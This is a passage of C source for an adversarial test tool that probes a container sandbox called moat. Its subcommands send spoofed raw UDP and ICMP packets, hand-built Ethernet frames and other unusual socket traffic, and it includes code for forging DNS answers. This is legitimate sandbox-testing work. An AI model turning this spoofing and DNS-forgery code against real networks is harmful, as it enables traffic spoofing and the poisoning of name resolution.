/* attack.c - the attacks a hostile container can try against moat, one per subcommand, for the
 * adversarial tests. Built static and copied into the busybox test image; `attack` alone lists
 * the subcommands (from the table at the end of this file).
 *
 *   attack [-t SECONDS] [-n] [-f] [-p] [-a ARGV0] SUBCOMMAND ARGS...
 *
 * Each subcommand prints one result line on stdout and exits
 *   0  "ok ..."                 the attack worked, from the attacker's point of view
 *   1  "EPERM"                  a syscall failed with EPERM (how moat refuses things)
 *      "error STEP: STRERROR"   any other failure; STEP names the syscall or stage
 *      "timeout"                a network wait ran out
 *   2  "error usage: ..."       bad arguments (usage on stderr)
 * Diagnostics go to stderr as "attack: STEP: ...", so the step of an EPERM or a timeout is
 * there too. dns-forge also prints each DNS answer it receives on stderr as
 * "answer from ADDR:PORT id N: ADDR..." (no prefix).
 *
 * Everything received from the network is parsed with bounds checks: the peer may be hostile. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif

#define MAX_PACKET   1500
#define MAX_PAYLOAD  1400 /* what a PAYLOAD argument may hold, so every frame fits MAX_PACKET */
#define DNS_PORT     53
#define DNS_TTL	     300
#define DNS_MAX_ADDR 16 /* address records printed per answer */
#define HAIRPIN_IF   "eth0"
#define ECHO_PAYLOAD "moat-attack"

extern char **environ;

static int timeout_ms = 2000;	      /* -t: every network wait */
static int no_query;		      /* -n: dns-forge sends no query */
static int forge_first;		      /* -f: dns-forge forges before it queries */
static int exec_via_proc;	      /* -p: exec-memfd through /proc/self/fd/N */
static const char *argv0_override;    /* -a: exec-memfd's argv[0] */
static const struct command *current; /* the running subcommand, for usage errors */

struct command {
	const char *name;
	const char *args;
	int min_args, max_args; /* max_args -1: no limit */
	int (*run)(int argc, char **argv);
	const char *help;
};

/* --- results ------------------------------------------------------------------------------ */

/* Print "ok ..." and return exit code 0. */
static int ok(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("ok ", stdout);
	vprintf(fmt, ap);
	putchar('\n');
	va_end(ap);
	return 0;
}

/* Print the result for STEP having failed with errno (EPERM, timeout for ETIMEDOUT, or
 * "error STEP: ...") and return exit code 1. */
static int fail(const char *step)
{
	int err = errno;

	fprintf(stderr, "attack: %s: %s\n", step, strerror(err));
	if (err == EPERM)
		printf("EPERM\n");
	else if (err == ETIMEDOUT)
		printf("timeout\n");
	else
		printf("error %s: %s\n", step, strerror(err));
	return 1;
}

/* Print a usage error about the running subcommand and return exit code 2. */
static int bad_usage(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("attack: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
	if (current)
		fprintf(stderr, "usage: attack %s %s\n", current->name, current->args);
	printf("error usage: %s\n", current ? current->name : "attack");
	return 2;
}

/* --- time --------------------------------------------------------------------------------- */

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

/* Milliseconds from now until deadline (a now_ms() value), never negative. */
static int ms_left(long long deadline)
{
	long long left = deadline - now_ms();

	return left > 0 ? (int)left : 0;
}

/* Wait until fd has EVENTS or the deadline passes. Returns 1 when ready, 0 on timeout, -1 with
 * errno on error. */
static int wait_fd(int fd, short events, long long deadline)
{
	struct pollfd p = {.fd = fd, .events = events};
	int r;

	do
		r = poll(&p, 1, ms_left(deadline));
	while (r < 0 && errno == EINTR);
	return r;
}

static uint32_t random32(void)
{
	uint32_t r;

	if (getrandom(&r, sizeof(r), 0) != sizeof(r))
		r = (uint32_t)now_ms() ^ (uint32_t)getpid() << 16;
	return r;
}

/* --- parsing arguments -------------------------------------------------------------------- */

/* Parse a decimal port 0..65535. Returns 0, or -1 when S is not one. */
static int parse_port(const char *s, unsigned short *port)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 10);
	if (errno || end == s || *end || v < 0 || v > 65535)
		return -1;
	*port = (unsigned short)v;
	return 0;
}

/* Parse ADDR (IPv4, or IPv6 with an optional %IFACE scope) and PORT into ss. Returns the
 * sockaddr's length, or 0 when either does not parse. */
static socklen_t parse_sockaddr(const char *addr, const char *port, struct sockaddr_storage *ss)
{
	struct sockaddr_in *a4 = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)ss;
	char host[INET6_ADDRSTRLEN + IF_NAMESIZE + 1];
	unsigned short p;
	char *scope;

	memset(ss, 0, sizeof(*ss));
	if (parse_port(port, &p) || strlen(addr) >= sizeof(host))
		return 0;
	if (inet_pton(AF_INET, addr, &a4->sin_addr) == 1) {
		a4->sin_family = AF_INET;
		a4->sin_port = htons(p);
		return sizeof(*a4);
	}
	memcpy(host, addr, strlen(addr) + 1);
	scope = strchr(host, '%');
	if (scope) {
		*scope++ = '\0';
		a6->sin6_scope_id = if_nametoindex(scope);
		if (!a6->sin6_scope_id)
			return 0;
	}
	if (inet_pton(AF_INET6, host, &a6->sin6_addr) != 1)
		return 0;
	a6->sin6_family = AF_INET6;
	a6->sin6_port = htons(p);
	return sizeof(*a6);
}

/* Parse aa:bb:cc:dd:ee:ff. Returns 0, or -1 when S is not a MAC address. */
static int parse_mac(const char *s, uint8_t mac[ETH_ALEN])
{
	unsigned int b[ETH_ALEN];
	char tail;

	if (sscanf(s, "%2x:%2x:%2x:%2x:%2x:%2x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5],
		   &tail) != ETH_ALEN)
		return -1;
	for (int i = 0; i < ETH_ALEN; i++)
		mac[i] = (uint8_t)b[i];
	return 0;
}

/* Check PAYLOAD fits one frame. Returns its length, or -1 when it is too long. */
static int payload_len(const char *payload)
{
	size_t n = strlen(payload);

	return n <= MAX_PAYLOAD ? (int)n : -1;
}

/* --- socket addresses --------------------------------------------------------------------- */

static socklen_t sockaddr_len(const struct sockaddr_storage *ss)
{
	return ss->ss_family == AF_INET6 ? sizeof(struct sockaddr_in6) : sizeof(struct sockaddr_in);
}

static unsigned short sockaddr_port(const struct sockaddr_storage *ss)
{
	if (ss->ss_family == AF_INET6)
		return ntohs(((const struct sockaddr_in6 *)ss)->sin6_port);
	return ntohs(((const struct sockaddr_in *)ss)->sin_port);
}

static void sockaddr_set_port(struct sockaddr_storage *ss, unsigned short port)
{
	if (ss->ss_family == AF_INET6)
		((struct sockaddr_in6 *)ss)->sin6_port = htons(port);
	else
		((struct sockaddr_in *)ss)->sin_port = htons(port);
}

/* Pointer to the address bytes (4 or 16) inside ss. */
static const void *sockaddr_ip(const struct sockaddr_storage *ss)
{
	if (ss->ss_family == AF_INET6)
		return &((const struct sockaddr_in6 *)ss)->sin6_addr;
	return &((const struct sockaddr_in *)ss)->sin_addr;
}

static int sockaddr_is_any(const struct sockaddr_storage *ss)
{
	if (ss->ss_family == AF_INET6)
		return IN6_IS_ADDR_UNSPECIFIED(&((const struct sockaddr_in6 *)ss)->sin6_addr);
	return ((const struct sockaddr_in *)ss)->sin_addr.s_addr == htonl(INADDR_ANY);
}

/* Format ss as ADDR:PORT or [ADDR]:PORT into buf (INET6_ADDRSTRLEN + 8 bytes). */
static const char *sockaddr_str(const struct sockaddr_storage *ss, char *buf, size_t cap)
{
	char ip[INET6_ADDRSTRLEN] = "?";

	inet_ntop(ss->ss_family, sockaddr_ip(ss), ip, sizeof(ip));
	snprintf(buf, cap, ss->ss_family == AF_INET6 ? "[%s]:%u" : "%s:%u", ip, sockaddr_port(ss));
	return buf;
}

/* The source address the kernel picks for a packet to dst: connect() a UDP socket, which sends
 * nothing, and read its local address. Writes it to src with port 0. Returns 0 or -1/errno. */
static int route_source(const struct sockaddr_storage *dst, struct sockaddr_storage *src)
{
	struct sockaddr_storage to = *dst;
	socklen_t len = sizeof(*src);
	int fd, r = -1;

	if (!sockaddr_port(&to))
		sockaddr_set_port(&to, 9);
	fd = socket(to.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&to, sockaddr_len(&to)) == 0 &&
	    getsockname(fd, (struct sockaddr *)src, &len) == 0) {
		sockaddr_set_port(src, 0);
		r = 0;
	}
	close(fd);
	return r;
}

/* connect() fd to ss, waiting at most the timeout. Returns 0, or -1 with errno (ETIMEDOUT when
 * the wait ran out). Leaves fd blocking as it was. */
static int connect_timeout(int fd, const struct sockaddr_storage *ss)
{
	int flags = fcntl(fd, F_GETFL), err = 0, r;
	socklen_t elen = sizeof(err);

	if (flags < 0 || fcntl(fd, F_SETFL, flags | O_NONBLOCK))
		return -1;
	if (connect(fd, (const struct sockaddr *)ss, sockaddr_len(ss)) < 0) {
		if (errno != EINPROGRESS)
			return -1;
		r = wait_fd(fd, POLLOUT, now_ms() + timeout_ms);
		if (r <= 0) {
			if (r == 0)
				errno = ETIMEDOUT;
			return -1;
		}
		if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &elen))
			return -1;
		if (err) {
			errno = err;
			return -1;
		}
	}
	return fcntl(fd, F_SETFL, flags) ? -1 : 0;
}

/* --- checksums and packets ---------------------------------------------------------------- */

/* Add len bytes, read as big-endian 16-bit words, to a ones' complement sum. Only the last
 * chunk of a sum may have an odd length. */
static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

/* Fold a sum into the 16-bit checksum to store (host order; store it with htons). */
static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Write an IP header (IPv4 or IPv6, after src's family) + UDP header + payload from src to dst
 * (addresses and ports) into buf, both checksums filled in. Returns the length, or 0 when the
 * families differ or it does not fit cap. */
static size_t build_udp_packet(uint8_t *buf, size_t cap, const struct sockaddr_storage *src,
			       const struct sockaddr_storage *dst, const void *payload, size_t plen)
{
	size_t iplen = src->ss_family == AF_INET6 ? sizeof(struct ip6_hdr) : sizeof(struct iphdr);
	size_t ulen = sizeof(struct udphdr) + plen;
	struct udphdr *udp = (struct udphdr *)(buf + iplen);
	uint8_t pseudo[40] = {0};
	uint32_t sum;

	if (src->ss_family != dst->ss_family || iplen + ulen > cap || ulen > 0xffff)
		return 0;
	memset(buf, 0, iplen + sizeof(*udp));
	if (src->ss_family == AF_INET6) {
		struct ip6_hdr *ip6 = (struct ip6_hdr *)buf;

		ip6->ip6_flow = htonl(6U << 28);
		ip6->ip6_plen = htons((uint16_t)ulen);
		ip6->ip6_nxt = IPPROTO_UDP;
		ip6->ip6_hlim = 64;
		memcpy(&ip6->ip6_src, sockaddr_ip(src), 16);
		memcpy(&ip6->ip6_dst, sockaddr_ip(dst), 16);
		memcpy(pseudo, &ip6->ip6_src, 32);
		pseudo[34] = (uint8_t)(ulen >> 8);
		pseudo[35] = (uint8_t)ulen;
		pseudo[39] = IPPROTO_UDP;
		sum = csum_add(0, pseudo, 40);
	} else {
		struct iphdr *ip = (struct iphdr *)buf;

		ip->version = 4;
		ip->ihl = 5;
		ip->tot_len = htons((uint16_t)(iplen + ulen));
		ip->id = htons((uint16_t)random32());
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		memcpy(&ip->saddr, sockaddr_ip(src), 4);
		memcpy(&ip->daddr, sockaddr_ip(dst), 4);
		ip->check = htons(csum_fold(csum_add(0, ip, sizeof(*ip))));
		memcpy(pseudo, &ip->saddr, 8);
		pseudo[9] = IPPROTO_UDP;
		pseudo[10] = (uint8_t)(ulen >> 8);
		pseudo[11] = (uint8_t)ulen;
		sum = csum_add(0, pseudo, 12);
	}
	udp->source = htons(sockaddr_port(src));
	udp->dest = htons(sockaddr_port(dst));
	udp->len = htons((uint16_t)ulen);
	memcpy(udp + 1, payload, plen);
	sum = csum_add(sum, udp, ulen);
	udp->check = htons(csum_fold(sum) ? csum_fold(sum) : 0xffff);
	return iplen + ulen;
}

/* Write an Ethernet header into buf. Returns its length. */
static size_t build_eth(uint8_t *buf, const uint8_t dst[ETH_ALEN], const uint8_t src[ETH_ALEN],
			uint16_t type)
{
	struct ether_header *eth = (struct ether_header *)buf;

	memcpy(eth->ether_dhost, dst, ETH_ALEN);
	memcpy(eth->ether_shost, src, ETH_ALEN);
	eth->ether_type = htons(type);
	return sizeof(*eth);
}

static uint16_t ethertype_of(int family)
{
	return family == AF_INET6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP;
}

/* --- interfaces and packet sockets -------------------------------------------------------- */

/* Look up IFACE's index and MAC address (either pointer may be NULL). Returns 0 or -1/errno. */
static int iface_info(const char *iface, int *ifindex, uint8_t mac[ETH_ALEN])
{
	struct ifreq ifr = {0};
	int fd, r = -1;

	if (strlen(iface) >= sizeof(ifr.ifr_name)) {
		errno = ENODEV;
		return -1;
	}
	memcpy(ifr.ifr_name, iface, strlen(iface));
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (ioctl(fd, SIOCGIFINDEX, &ifr))
		goto cleanup;
	if (ifindex)
		*ifindex = ifr.ifr_ifindex;
	if (mac) {
		if (ioctl(fd, SIOCGIFHWADDR, &ifr))
			goto cleanup;
		memcpy(mac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
	}
	r = 0;
cleanup:
	close(fd);
	return r;
}

/* IFACE's IPv4 address (SIOCGIFADDR) into ss, port 0. Returns 0 or -1/errno. */
static int iface_ipv4(const char *iface, struct sockaddr_storage *ss)
{
	struct ifreq ifr = {0};
	int fd, r;

	if (strlen(iface) >= sizeof(ifr.ifr_name)) {
		errno = ENODEV;
		return -1;
	}
	memcpy(ifr.ifr_name, iface, strlen(iface));
	ifr.ifr_addr.sa_family = AF_INET;
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	r = ioctl(fd, SIOCGIFADDR, &ifr);
	close(fd);
	if (r)
		return -1;
	memset(ss, 0, sizeof(*ss));
	memcpy(ss, &ifr.ifr_addr, sizeof(struct sockaddr_in));
	sockaddr_set_port(ss, 0);
	return 0;
}

/* Open a packet socket of TYPE (SOCK_RAW: we write the link header, SOCK_DGRAM: the kernel
 * does) bound to ifindex, receiving nothing. Returns the fd, or -1 with errno and *step set. */
static int packet_open(int type, int ifindex, int bypass, const char **step)
{
	struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_ifindex = ifindex};
	int one = 1, fd;

	*step = "socket";
	fd = socket(AF_PACKET, type | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	*step = "bind";
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)))
		goto fail;
	*step = "setsockopt PACKET_QDISC_BYPASS";
	if (bypass && setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		goto fail;
	return fd;
fail:
	one = errno;
	close(fd);
	errno = one;
	return -1;
}

/* Send one frame (SOCK_RAW: with its Ethernet header; SOCK_DGRAM: from the network header on,
 * to dstmac) of ETHERTYPE out of ifindex. Returns what sendto returns. */
static ssize_t packet_send(int fd, int ifindex, const uint8_t dstmac[ETH_ALEN], uint16_t ethertype,
			   const void *frame, size_t len)
{
	struct sockaddr_ll sll = {
	    .sll_family = AF_PACKET,
	    .sll_protocol = htons(ethertype),
	    .sll_ifindex = ifindex,
	    .sll_halen = ETH_ALEN,
	};

	memcpy(sll.sll_addr, dstmac, ETH_ALEN);
	return sendto(fd, frame, len, 0, (struct sockaddr *)&sll, sizeof(sll));
}

/* --- DNS messages ------------------------------------------------------------------------- */

struct dns_reply {
	uint16_t id;
	uint8_t rcode;
	int naddr;    /* A/AAAA records seen (more than fit in addr[] are counted, not kept) */
	int nanswers; /* all answer records */
	struct {
		int family;
		uint8_t ip[16];
	} addr[DNS_MAX_ADDR];
};

/* Append NAME in wire format at off. Returns the new offset, or 0 when NAME has an empty or
 * over-long label, is longer than 255 bytes encoded, or does not fit cap. */
static size_t dns_put_name(uint8_t *buf, size_t cap, size_t off, const char *name)
{
	size_t start = off;
	const char *p = name;

	if (strcmp(name, ".") == 0)
		p = "";
	while (*p) {
		size_t len = strcspn(p, ".");

		if (len == 0 || len > 63 || off + 1 + len >= cap)
			return 0;
		buf[off++] = (uint8_t)len;
		memcpy(buf + off, p, len);
		off += len;
		p += len;
		if (*p == '.')
			p++;
	}
	if (off >= cap || off + 1 - start > 255)
		return 0;
	buf[off++] = 0;
	return off;
}

/* Write a query: header with ID and RD, one question NAME TYPE class IN. Returns its length, or
 * 0 when NAME is not a valid name. */
static size_t dns_build_query(uint8_t *buf, size_t cap, uint16_t id, const char *name,
			      uint16_t type)
{
	size_t off;

	if (cap < 12 + 4)
		return 0;
	memset(buf, 0, 12);
	buf[0] = (uint8_t)(id >> 8);
	buf[1] = (uint8_t)id;
	buf[2] = 0x01; /* RD */
	buf[5] = 1;    /* QDCOUNT */
	off = dns_put_name(buf, cap - 4, 12, name);
	if (!off)
		return 0;
	buf[off++] = (uint8_t)(type >> 8);
	buf[off++] = (uint8_t)type;
	buf[off++] = 0;
	buf[off++] = 1; /* IN */
	return off;
}

/* Write the answer an attacker forges for that query: QR+RD+RA, one record NAME -> ip (A for
 * AF_INET, AAAA for AF_INET6) with TTL DNS_TTL, its name a pointer to the question. Returns its
 * length, or 0 when NAME is not a valid name. */
static size_t dns_build_answer(uint8_t *buf, size_t cap, uint16_t id, const char *name, int family,
			       const void *ip)
{
	uint16_t type = family == AF_INET6 ? 28 : 1, iplen = family == AF_INET6 ? 16 : 4;
	size_t off = dns_build_query(buf, cap, id, name, type);

	if (!off || off + 12 + iplen > cap)
		return 0;
	buf[2] = 0x81;	   /* QR, RD */
	buf[3] = 0x80;	   /* RA */
	buf[7] = 1;	   /* ANCOUNT */
	buf[off++] = 0xc0; /* name: a pointer to the question's */
	buf[off++] = 12;
	buf[off++] = 0;
	buf[off++] = (uint8_t)type;
	buf[off++] = 0;
	buf[off++] = 1; /* IN */
	buf[off++] = 0;
	buf[off++] = 0;
	buf[off++] = DNS_TTL >> 8;
	buf[off++] = DNS_TTL & 0xff;
	buf[off++] = 0;
	buf[off++] = (uint8_t)iplen;
	memcpy(buf + off, ip, iplen);
	return off + iplen;
}

/* Skip the (possibly compressed) name at off without following pointers. Returns the offset
 * after it, or 0 when it runs past len, uses a reserved label type or exceeds 255 bytes. */
static size_t dns_skip_name(const uint8_t *msg, size_t len, size_t off)
{
	size_t total = 0;

	while (off < len) {
		uint8_t l = msg[off];

		if ((l & 0xc0) == 0xc0)
			return off + 2 <= len ? off + 2 : 0;
		if (l & 0xc0)
			return 0;
		if (l == 0)
			return off + 1;
		total += l + 1;
		if (total > 255)
			return 0;
		off += l + 1;
	}
	return 0;
}

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

/* Parse a DNS response of len bytes: its id, rcode and A/AAAA answer records. Returns 0, or -1
 * when msg is not a response or is truncated or malformed. Never reads outside msg. */
static int dns_parse_reply(const uint8_t *msg, size_t len, struct dns_reply *r)
{
	unsigned int qd, an;
	size_t off = 12;

	memset(r, 0, sizeof(*r));
	if (len < 12 || !(msg[2] & 0x80))
		return -1;
	r->id = get16(msg);
	r->rcode = msg[3] & 0x0f;
	qd = get16(msg + 4);
	an = get16(msg + 6);
	for (unsigned int i = 0; i < qd; i++) {
		off = dns_skip_name(msg, len, off);
		if (!off || off + 4 > len)
			return -1;
		off += 4;
	}
	for (unsigned int i = 0; i < an; i++) {
		uint16_t type, class, rdlen;

		off = dns_skip_name(msg, len, off);
		if (!off || off + 10 > len)
			return -1;
		type = get16(msg + off);
		class = get16(msg + off + 2);
		rdlen = get16(msg + off + 8);
		off += 10;
		if (rdlen > len - off)
			return -1;
		r->nanswers++;
		if (class == 1 && ((type == 1 && rdlen == 4) || (type == 28 && rdlen == 16))) {
			if (r->naddr < DNS_MAX_ADDR) {
				r->addr[r->naddr].family = type == 1 ? AF_INET : AF_INET6;
				memcpy(r->addr[r->naddr].ip, msg + off, rdlen);
			}
			r->naddr++;
		}
		off += rdlen;
	}
	return 0;
}

/* Does r carry an address record equal to ss's address? */
static int dns_reply_has(const struct dns_reply *r, const struct sockaddr_storage *ss)
{
	size_t n = ss->ss_family == AF_INET6 ? 16 : 4;

	for (int i = 0; i < r->naddr && i < DNS_MAX_ADDR; i++)
		if (r->addr[i].family == ss->ss_family &&
		    !memcmp(r->addr[i].ip, sockaddr_ip(ss), n))
			return 1;
	return 0;
}

/* Print "answer from ADDR:PORT id N: ADDR..." for a received DNS message on stderr. */
static void dns_print_reply(const uint8_t *msg, size_t len, const struct sockaddr_storage *from,
			    struct dns_reply *r)
{
	char who[INET6_ADDRSTRLEN + 8], ip[INET6_ADDRSTRLEN];

	sockaddr_str(from, who, sizeof(who));
	if (dns_parse_reply(msg, len, r)) {
		fprintf(stderr, "answer from %s: %zu bytes, not a well-formed DNS response\n", who,
			len);
		return;
	}
	fprintf(stderr, "answer from %s id %u:", who, r->id);
	for (int i = 0; i < r->naddr && i < DNS_MAX_ADDR; i++)
		fprintf(stderr, " %s", inet_ntop(r->addr[i].family, r->addr[i].ip, ip, sizeof(ip)));
	if (!r->naddr)
		fprintf(stderr, " no address (rcode %u, %d answers)", r->rcode, r->nanswers);
	fputc('\n', stderr);
}

/* --- subcommands: raw and odd sockets ----------------------------------------------------- */

static int cmd_raw_udp(int argc, char **argv)
{
	struct sockaddr_storage src, dst;
	uint8_t pkt[MAX_PACKET];
	int plen = payload_len(argv[4]), fd;
	size_t len;
	ssize_t n;

	if (!parse_sockaddr(argv[2], argv[3], &dst) || plen < 0)
		return bad_usage("bad DST, DPORT or PAYLOAD");
	if (strcmp(argv[1], "auto") == 0) {
		if (route_source(&dst, &src))
			return fail("route to DST");
	} else if (!parse_sockaddr(argv[1], "0", &src)) {
		return bad_usage("bad SRC %s", argv[1]);
	}
	sockaddr_set_port(&src, (unsigned short)(32768 + random32() % 28000));
	len = build_udp_packet(pkt, sizeof(pkt), &src, &dst, argv[4], (size_t)plen);
	if (!len)
		return bad_usage("SRC and DST are not of one address family");
	fd = socket(dst.ss_family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		return fail("socket");
	sockaddr_set_port(&dst, 0); /* for AF_INET6 raw sockets the port is the protocol */
	n = sendto(fd, pkt, len, 0, (struct sockaddr *)&dst, sockaddr_len(&dst));
	if (n < 0)
		return fail("sendto");
	return ok("sent %zd bytes", n);
}

/* Wait for an echo reply of REPLY_TYPE on fd until the timeout. HAS_IP: the socket returns the
 * IPv4 header too (raw sockets); ID: the echo id to match, -1 for any (ping sockets match it
 * themselves). Returns 1 on a reply, 0 on timeout, -1 with errno on error. */
static int wait_echo_reply(int fd, int has_ip, uint8_t reply_type, int id)
{
	long long deadline = now_ms() + timeout_ms;
	uint8_t buf[MAX_PACKET];

	for (;;) {
		int r = wait_fd(fd, POLLIN, deadline);
		ssize_t n;
		size_t off = 0;

		if (r <= 0)
			return r;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < 0)
			return -1;
		if (has_ip) {
			if (n < 1)
				continue;
			off = (size_t)(buf[0] & 0x0f) * 4;
		}
		if ((size_t)n < off + 8 || buf[off] != reply_type)
			continue;
		if (id >= 0 && get16(buf + off + 4) != id)
			continue;
		return 1;
	}
}

static int cmd_raw_icmp(int argc, char **argv)
{
	uint8_t pkt[sizeof(struct icmphdr) + sizeof(ECHO_PAYLOAD)];
	struct icmphdr *icmp = (struct icmphdr *)pkt;
	uint16_t id = (uint16_t)random32();
	struct sockaddr_storage dst;
	int fd, r;

	if (!parse_sockaddr(argv[1], "0", &dst) || dst.ss_family != AF_INET)
		return bad_usage("DST must be an IPv4 address");
	memset(pkt, 0, sizeof(pkt));
	icmp->type = ICMP_ECHO;
	icmp->un.echo.id = htons(id);
	icmp->un.echo.sequence = htons(1);
	memcpy(icmp + 1, ECHO_PAYLOAD, sizeof(ECHO_PAYLOAD) - 1);
	icmp->checksum = htons(csum_fold(csum_add(0, pkt, sizeof(pkt) - 1)));
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		return fail("socket");
	if (sendto(fd, pkt, sizeof(pkt) - 1, 0, (struct sockaddr *)&dst, sockaddr_len(&dst)) < 0)
		return fail("sendto");
	r = wait_echo_reply(fd, 1, ICMP_ECHOREPLY, id);
	if (r < 0)
		return fail("recv");
	return ok(r ? "reply" : "sent");
}

/* ping and ping6: an unprivileged ICMP socket (net.ipv4.ping_group_range must hold our gid). */
static int cmd_ping(int argc, char **argv)
{
	int v6 = strcmp(argv[0], "ping6") == 0, fd, r;
	uint8_t pkt[8 + sizeof(ECHO_PAYLOAD)] = {0};
	struct sockaddr_storage dst;

	if (!parse_sockaddr(argv[1], "0", &dst) || dst.ss_family != (v6 ? AF_INET6 : AF_INET))
		return bad_usage("DST must be an %s address", v6 ? "IPv6" : "IPv4");
	pkt[0] = v6 ? ICMP6_ECHO_REQUEST : ICMP_ECHO; /* id and checksum: the kernel's */
	pkt[7] = 1;				      /* sequence */
	memcpy(pkt + 8, ECHO_PAYLOAD, sizeof(ECHO_PAYLOAD) - 1);
	fd = socket(dst.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
	if (fd < 0)
		return fail("socket");
	if (sendto(fd, pkt, sizeof(pkt) - 1, 0, (struct sockaddr *)&dst, sockaddr_len(&dst)) < 0)
		return fail("sendto");
	r = wait_echo_reply(fd, 0, v6 ? ICMP6_ECHO_REPLY : ICMP_ECHOREPLY, -1);
	if (r < 0)
		return fail("recv");
	return ok(r ? "reply" : "sent");
}

static int cmd_udplite(int argc, char **argv)
{
	int plen = payload_len(argv[3]), use_connect = argc > 4, fd;
	struct sockaddr_storage dst;
	ssize_t n;

	if (!parse_sockaddr(argv[1], argv[2], &dst) || plen < 0)
		return bad_usage("bad DST, PORT or PAYLOAD");
	if (use_connect && strcmp(argv[4], "connect") != 0)
		return bad_usage("the last argument can only be \"connect\"");
	fd = socket(dst.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDPLITE);
	if (fd < 0)
		return fail("socket");
	if (use_connect) {
		if (connect(fd, (struct sockaddr *)&dst, sockaddr_len(&dst)))
			return fail("connect");
		n = send(fd, argv[3], (size_t)plen, 0);
	} else {
		n = sendto(fd, argv[3], (size_t)plen, 0, (struct sockaddr *)&dst,
			   sockaddr_len(&dst));
	}
	if (n < 0)
		return fail(use_connect ? "send" : "sendto");
	return ok("sent %zd bytes", n);
}

/* sctp and mptcp: a stream socket of that protocol, connect, send PAYLOAD. */
static int cmd_stream(int argc, char **argv)
{
	int proto = strcmp(argv[0], "sctp") == 0 ? IPPROTO_SCTP : IPPROTO_MPTCP, fd, plen;
	const char *payload = argc > 3 ? argv[3] : ECHO_PAYLOAD;
	struct sockaddr_storage dst;
	ssize_t n;

	plen = payload_len(payload);
	if (!parse_sockaddr(argv[1], argv[2], &dst) || plen < 0)
		return bad_usage("bad DST, PORT or PAYLOAD");
	fd = socket(dst.ss_family, SOCK_STREAM | SOCK_CLOEXEC, proto);
	if (fd < 0)
		return fail("socket");
	if (connect_timeout(fd, &dst))
		return fail("connect");
	n = send(fd, payload, (size_t)plen, MSG_NOSIGNAL);
	if (n < 0)
		return fail("send");
	return ok("sent %zd bytes", n);
}

/* packet and packet-dgram: a hand-built UDP datagram out of a packet socket. */
static int cmd_packet(int argc, char **argv)
{
	int dgram = strcmp(argv[0], "packet-dgram") == 0, plen = payload_len(argv[6]);
	struct sockaddr_storage src, dst;
	uint8_t dstmac[ETH_ALEN], mac[ETH_ALEN], frame[ETH_HLEN + MAX_PACKET];
	size_t hlen = 0, len;
	int bypass = argc > 7, ifindex, fd;
	const char *step;
	ssize_t n;

	if (parse_mac(argv[2], dstmac) || !parse_sockaddr(argv[4], argv[5], &dst) || plen < 0)
		return bad_usage("bad DSTMAC, DSTIP, DPORT or PAYLOAD");
	if (bypass && strcmp(argv[7], "bypass") != 0)
		return bad_usage("the last argument can only be \"bypass\"");
	if (iface_info(argv[1], &ifindex, mac))
		return fail("interface");
	if (strcmp(argv[3], "auto") == 0) {
		if (iface_ipv4(argv[1], &src))
			return fail("interface address");
	} else if (!parse_sockaddr(argv[3], "0", &src)) {
		return bad_usage("bad SRCIP %s", argv[3]);
	}
	sockaddr_set_port(&src, (unsigned short)(32768 + random32() % 28000));
	if (!dgram)
		hlen = build_eth(frame, dstmac, mac, ethertype_of(dst.ss_family));
	len =
	    build_udp_packet(frame + hlen, sizeof(frame) - hlen, &src, &dst, argv[6], (size_t)plen);
	if (!len)
		return bad_usage("SRCIP and DSTIP are not of one address family");
	fd = packet_open(dgram ? SOCK_DGRAM : SOCK_RAW, ifindex, bypass, &step);
	if (fd < 0)
		return fail(step);
